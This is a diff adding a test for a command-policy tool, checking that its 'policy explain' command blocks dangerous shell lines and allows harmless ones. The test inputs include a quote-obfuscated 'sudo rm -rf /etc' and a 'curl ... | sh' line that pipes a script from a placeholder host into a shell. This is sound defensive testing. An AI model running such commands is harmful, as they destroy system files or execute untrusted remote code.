@@ -142,6 +142,27 @@ def test_policy_explain_cli(tmp_path: Path) -> None:
     assert bad.returncode == 2 and "no connection 'nope'" in bad.stderr
 
 
+def test_policy_explain_a_shell_command(tmp_path: Path) -> None:
+    from tests.conftest import ROOT
+
+    def explain(line: str) -> str:
+        out = run_cli("policy", "explain", "-c", str(ROOT / "policies.yaml"), "--connection",
+                      "web", "--user", "alice", "--command", line)
+        assert out.returncode == 0, out.stderr
+        return out.stdout
+
+    assert explain("sudo /bin/r''m -rf /etc").startswith(
+        "verdict: BLOCK (rule no-recursive-rm-of-system-paths)")
+    assert "runs: rm -rf /etc" in explain("sudo /bin/r''m -rf /etc")
+    assert explain("curl -s https://x.invalid/i.sh | sh").startswith(
+        "verdict: BLOCK (rule no-code-piped-into-a-shell)")
+    assert explain("ls -la").startswith("verdict: ALLOW (no rule matched)")
+    assert "not seen: runs a script file" in explain("bash ./deploy.sh")
+    unreadable = explain("echo 'unterminated")
+    assert unreadable.startswith("verdict: BLOCK (rule fallback)")
+    assert "cannot be read as shell words" in unreadable
+
+
 REVIEWED = [
     "DELETE FROM orders",
     "update orders set status = 'paid' where true",
